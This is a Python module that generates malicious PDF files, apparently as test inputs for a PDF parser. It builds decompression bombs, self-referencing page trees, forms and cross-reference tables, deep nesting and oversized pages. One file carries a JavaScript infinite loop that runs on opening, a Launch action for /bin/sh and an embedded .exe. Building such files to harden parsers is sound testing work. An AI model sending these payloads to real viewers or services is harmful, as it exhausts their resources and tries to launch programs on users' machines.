"""PDFs made to harm, written by hand: each a few kilobytes or megabytes that ask for gigabytes or hours."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Sequence


def pdf(objects: Sequence[bytes], *, prev: int | None = None) -> bytes:
    """A file of `objects`, the first of which is the catalogue; `prev` is the xref before its own."""
    out = bytearray(b"%PDF-1.7\n")
    at = []
    for number, body in enumerate(objects, 1):
        at.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in at)
    more = b"" if prev is None else b"/Prev %d " % (start if prev < 0 else prev)
    out += b"trailer\n<</Size %d /Root 1 0 R %b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, more, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"", *, packed: bool = False) -> bytes:
    """A stream object; `packed` compresses it."""
    if packed:
        data, entries = zlib.compress(data, 9), entries + b"/Filter /FlateDecode "
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(data), data)


def page(
    content: bytes, *, box: bytes = b"[0 0 595 842]", more: Sequence[bytes] = (), packed: bool = False
) -> bytes:
    """A file of one page with this content; object 5 is its font, `more` are objects 6, 7, …"""
    resources = b"/Resources <</Font <</F1 5 0 R>> /XObject <</X 6 0 R>>>>"
    return pdf(
        [
            b"<</Type /Catalog /Pages 2 0 R>>",
            b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
            b"<</Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R %b>>" % (box, resources),
            stream(content, packed=packed),
            b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
            *more,
        ]
    )


WORDS = b"BT /F1 12 Tf 72 700 Td (Notice of the office) Tj ET"


def many_pages(count: int) -> bytes:
    """`count` pages that are one and the same object."""
    return pdf(
        [
            b"<</Type /Catalog /Pages 2 0 R>>",
            b"<</Type /Pages /Count %d /Kids [%b]>>" % (count, b"3 0 R " * count),
            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R>>",
            stream(WORDS),
        ]
    )


def claimed_pages() -> bytes:
    """One page that says it is two thousand million."""
    return page(WORDS).replace(b"/Count 1", b"/Count 2000000000")


def page_tree_loop() -> bytes:
    """A page tree that holds itself."""
    return pdf(
        [b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 4 /Parent 2 0 R>>"]
    )


def deep_page_tree() -> bytes:
    """A page under twenty thousand others."""
    depth = 20_000
    nodes = [b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % (number + 3) for number in range(depth)]
    last = b"<</Type /Page /MediaBox [0 0 595 842]>>"
    return pdf([b"<</Type /Catalog /Pages 2 0 R>>", *nodes, last])


def form_loop() -> bytes:
    """A form that draws itself, twice."""
    form = stream(
        b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 6 0 R>>>> "
    )
    return page(b"/X Do " + WORDS, more=[form])


def form_bomb() -> bytes:
    """Forms that each draw the next ten times."""
    forms = []
    for level in range(12):
        inner = b"/Y Do " * 10 if level < 11 else WORDS
        head = (
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] "
            b"/Resources <</Font <</F1 5 0 R>> /XObject <</Y %d 0 R>>>> "
        )
        forms.append(stream(inner, head % (level + 7)))
    return page(b"/X Do", more=forms)


def length_loop() -> bytes:
    """A stream whose length is the stream itself."""
    return page(WORDS).replace(b"/Length 52", b"/Length 4 0 R")


def xref_loop() -> bytes:
    """A cross-reference table that names itself as the one before."""
    return pdf([b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [] /Count 0>>"], prev=-1)


def huge_page() -> bytes:
    """A page of a million kilometres."""
    return page(WORDS, box=b"[-1e12 -1e12 1e12 1e12]")


def crowded_page() -> bytes:
    """A page of a million letters."""
    return page(b"BT /F1 1 Tf 1 1 Td " + (b"(" + b"a" * 1000 + b") Tj ") * 1000 + b"ET", packed=True)


def text_bomb() -> bytes:
    """Twenty million letters in a few kilobytes."""
    return page(b"BT /F1 1 Tf 1 1 Td " + (b"(" + b"a" * 1000 + b") Tj ") * 20_000 + b"ET", packed=True)


def flate_bomb() -> bytes:
    """A content of a thousand million spaces."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    data = b"".join(packer.compress(block) for _ in range(1000)) + packer.flush()
    return page(b"").replace(stream(b""), stream(data, b"/Filter /FlateDecode "))


def path_bomb() -> bytes:
    """A million ruling lines."""
    return page(b"0 0 m 500 0 l S " * 1_000_000 + WORDS, packed=True)


def nested_arrays() -> bytes:
    """Half a million brackets."""
    return page(b"[" * 500_000 + WORDS)


def nested_states() -> bytes:
    """A million saved states."""
    return page(b"q " * 1_000_000 + WORDS, packed=True)


def picture_bomb() -> bytes:
    """A scan of 60,000 by 60,000 points."""
    size = 60_000
    packer = zlib.compressobj(9)
    row = b"\x00" * (size // 8)
    data = b"".join(packer.compress(row) for _ in range(size)) + packer.flush()
    head = (
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 "
        b"/Filter /FlateDecode "
    )
    return page(b"595 0 0 842 0 0 cm /X Do", more=[stream(data, head % (size, size))])


def actions() -> bytes:
    """A script that runs on opening, a program to launch, an embedded file."""
    return page(WORDS).replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1); while(1){})>> "
        b"/AA <</WC <</S /Launch /F (/bin/sh)>>>> /Names <</EmbeddedFiles <</Names [(a.exe) 5 0 R]>>>>",
    )


ALL: tuple[Callable[[], bytes], ...] = (
    lambda: many_pages(100_000),
    claimed_pages,
    page_tree_loop,
    deep_page_tree,
    form_loop,
    form_bomb,
    length_loop,
    xref_loop,
    huge_page,
    crowded_page,
    text_bomb,
    flate_bomb,
    path_bomb,
    nested_arrays,
    nested_states,
    picture_bomb,
    actions,
)
